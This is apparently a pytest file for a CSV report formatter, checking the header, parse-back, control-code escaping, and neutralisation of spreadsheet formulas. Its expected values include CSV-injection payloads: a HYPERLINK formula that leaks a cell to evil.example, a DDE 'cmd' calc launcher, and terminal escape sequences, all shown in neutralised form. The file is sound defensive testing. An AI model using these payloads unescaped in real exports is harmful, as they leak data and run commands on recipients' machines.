"""Tests for the CSV formatter: golden file, parse-back, formula neutralisation, ``top``."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from rtm_score.formatters._escape import (
    _NEWLINES,
    _ONE_LINE_SPACES,
    _SPACE_RUN,
    FORMULA_TRIGGERS,
    csv_cell,
    multi_line,
    neutralize_formula,
    one_line,
    visible_controls,
)
from rtm_score.formatters.csv import HEADER, render


def _parse(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_golden_mixed_day(mixed_day_report, golden) -> None:
    golden.check("mixed_day/report.csv", render(mixed_day_report))


def test_header_is_the_documented_one(mixed_day_report) -> None:
    first = render(mixed_day_report).split("\n", 1)[0]
    assert first == "rank,id,topic,decision,relevance,sensitivity,categories,reasons,context"
    assert ",".join(HEADER) == first


def test_parses_back_to_the_report(mixed_day_report) -> None:
    rows = _parse(render(mixed_day_report))
    assert len(rows) == len(mixed_day_report.topics)
    assert [r["rank"] for r in rows] == ["1", "2", "3", "4", "5", "6"]
    assert [r["decision"] for r in rows] == ["engage", "engage", "skip", "skip", "skip", "never"]
    aurora = rows[5]
    assert aurora["topic"] == "#Aurora"
    assert aurora["relevance"] == "0.706"
    assert aurora["sensitivity"] == "0.941"
    assert aurora["categories"].split(";") == ["death-injury", "violence-crime"]
    reasons = aurora["reasons"].split(" | ")
    assert len(reasons) == 5
    assert reasons[0] == "off-limits: On the off-limits list: shootings"
    assert aurora["context"] == "Gunman opens fire at Aurora cinema; 12 killed, dozens injured"
    assert rows[1]["topic"] == "Fête des Lumières — 東京 ライトアップ"


def test_formula_cells_are_neutralised(mixed_day_report) -> None:
    rows = _parse(render(mixed_day_report))
    formula = rows[3]
    assert formula["id"] == "'=1+2"
    assert formula["topic"] == '\'=HYPERLINK("https://evil.example/?leak="&A1,"Click for 50% off")'
    assert formula["categories"] == "'@spam"
    assert formula["context"] == '\'+cmd|" /C calc"!A0'
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(FORMULA_TRIGGERS), cell


def test_line_ends_are_newlines_only(mixed_day_report) -> None:
    text = render(mixed_day_report)
    assert "\r" not in text
    assert text.endswith("\n")
    # The control-code topic keeps its line break inside one quoted cell.
    assert _parse(text)[4]["context"].startswith("Line one\nLine two␛]8;;")


def test_control_codes_are_made_visible(mixed_day_report) -> None:
    text = render(mixed_day_report)
    assert "\x1b" not in text
    assert "\x07" not in text
    assert "\x9b" not in text
    assert "Breaking␛[2J␛[31m NEWS\n␇now\ufffd1m live" in text


def test_top_limits_rows(mixed_day_report) -> None:
    rows = _parse(render(mixed_day_report, top=2))
    assert [r["rank"] for r in rows] == ["1", "2"]


def test_empty_report_is_just_the_header(make_report) -> None:
    assert render(make_report(errors=[(3, "bad")])) == ",".join(HEADER) + "\n"


def test_scores_have_three_decimals(make_scored, make_report) -> None:
    report = make_report([make_scored("x", relevance=0.5, sensitivity=-1e-9)])
    row = _parse(render(report))[0]
    assert (row["relevance"], row["sensitivity"]) == ("0.500", "0.000")


@pytest.mark.parametrize("trigger", ["=", "+", "-", "@", "\t", "\r", "\n"])
def test_every_trigger_is_neutralised(trigger: str, make_scored, make_report) -> None:
    value = f"{trigger}1+1"
    assert neutralize_formula(value) == f"'{value}"
    report = make_report([make_scored(value, id=value, context=value, categories=[value])])
    row = _parse(render(report))[0]
    for key in ("id", "topic", "categories", "context"):
        assert row[key].startswith("'"), (key, row[key])


@pytest.mark.parametrize("value", [" =1", "  @SUM(1+1)", " +cmd", "\u00a0-2+3", "   =HYPERLINK(x)"])
def test_a_trigger_after_leading_spaces_is_neutralised(value: str) -> None:
    # Some spreadsheets trim the spaces before they read the cell.
    assert neutralize_formula(value) == f"'{value}"
    assert csv_cell(value) == f"'{value}"


@pytest.mark.parametrize("safe", ["plain", "a=b", " a=1", "'quoted", "#tag", "1-2", " 1-2", ""])
def test_safe_cells_are_unchanged(safe: str) -> None:
    assert neutralize_formula(safe) == safe
    assert csv_cell(safe) == safe


def test_csv_cell_normalises_breaks_then_neutralises() -> None:
    assert csv_cell("a\r\nb\rc") == "a\nb\nc"
    assert csv_cell("\x1b=cmd") == "␛=cmd"
    assert csv_cell("\r=cmd") == "'\n=cmd"


@given(
    st.text(
        alphabet=st.characters(codec="utf-8", exclude_categories=["Cs"])
        | st.sampled_from(["\t", "\n", "\r", "\x85", "\u2028", "\u202e", "\u00a0", "=", " "])
    )
)
def test_a_printable_cell_is_only_neutralised(text: str) -> None:
    # csv_cell skips multi_line for a printable text, one_line skips the breaks and controls:
    # that is the same text.
    assert csv_cell(text) == neutralize_formula(multi_line(text))
    slow = text
    for brk in _NEWLINES:
        slow = slow.replace(brk, " ")
    slow = _SPACE_RUN.sub(" ", visible_controls(slow.translate(_ONE_LINE_SPACES))).strip()
    assert one_line(text) == slow
